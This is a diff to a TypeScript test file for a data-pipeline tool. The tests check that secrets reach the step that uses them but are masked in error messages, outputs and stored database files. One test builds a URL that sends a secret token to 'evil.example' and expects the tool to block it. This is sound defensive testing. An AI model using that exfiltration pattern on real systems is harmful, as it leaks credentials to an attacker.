@@ -103,24 +103,33 @@ describe('a step with a cache', () => {
 
 describe('a secret', () => {
   const SECRET = 'hunter2-"quoted"';
+  const OTHER = 'another-secret';
   const source = withStep('on_error: fail')
     .replace('inputs:', 'secrets: [TOKEN]\ninputs:')
-    .replace('image: "${{ photo.path }}"', 'image: "data:${{ secrets.TOKEN }}${{ photo.name }}"');
+    .replace('image: "${{ photo.path }}"', 'image: "${{ photo.path }}", token: "Bearer ${{ secrets.TOKEN }}"');
 
   test('reaches the capability, and neither the database nor an event nor an output', async () => {
     harness.photos(3);
-    await harness.open(({ image }) => {
-      if (broken(image)) throw PerceptError.invalid('image', `must be something else than '${image as string}'.`);
-      return { seen: image, total: 1 };
+    await harness.open(({ image, token }) => {
+      if (broken(image)) throw PerceptError.invalid('token', `must be something else than '${token as string}'.`);
+      return { seen: `${token as string} ${OTHER}`, total: 1, '7431': 7431, [SECRET]: `${encodeURIComponent(SECRET)}` };
     });
     await harness.pipelines.close();
-    harness.pipelines = harness.service({ secrets: new Secrets([['TOKEN', SECRET]]) });
+    harness.pipelines = harness.service({
+      secrets: new Secrets([
+        ['TOKEN', SECRET],
+        ['PIN', '7431'],
+        ['OTHER', OTHER],
+      ]),
+    });
     harness.pipelines.work();
     const view = await harness.run(source.replace('size: ${{ photo.size }}', 'size: ${{ echo.seen }}'));
     expect(view.counts).toMatchObject({ succeeded: 2, failed: 1 });
-    expect(harness.host.calls[0]!.fields.image).toBe(`data:${SECRET}p0000.jpg`);
-    expect(view.failures[0]!.reason).toContain('***');
-    expect(rowsOf(view)[0]).toMatchObject({ size: 'data:***p0000.jpg' });
+    expect(harness.host.calls[0]!.fields.token).toBe(`Bearer ${SECRET}`);
+    expect(view.failures[0]!.reason).toContain("'Bearer ***'");
+    // Secrets that the step does not use are not looked for: to blot out a guess of one would confirm it.
+    expect(rowsOf(view)[0]).toMatchObject({ size: `Bearer *** ${OTHER}` });
+    expect((await harness.pipelines.items(view.id)).rows[0]!.results).toMatchObject({ echo: { '7431': 7431, '***': '***' } });
     await harness.store.reader.query('PRAGMA wal_checkpoint(TRUNCATE)').catch(() => undefined);
     const kept = ['percept.db', 'percept.db-wal']
       .map((name) => readFileSync(join(harness.folder, name)).toString('latin1'))
@@ -140,7 +149,7 @@ describe('a secret', () => {
     ];
     harness.pipelines = harness.service({ secrets: new Secrets(rules) });
     harness.pipelines.work();
-    const away = source.replace('data:${{ secrets.TOKEN }}', 'https://evil.example/${{ secrets.TOKEN }}');
+    const away = source.replace('Bearer ${{ secrets.TOKEN }}', 'https://evil.example/${{ secrets.TOKEN }}');
     const view = await harness.run(away);
     expect(view.failures[0]!.reason).toContain('PERCEPT_SECRET_TOKEN_HOSTS');
     expect(harness.host.calls).toEqual([]);
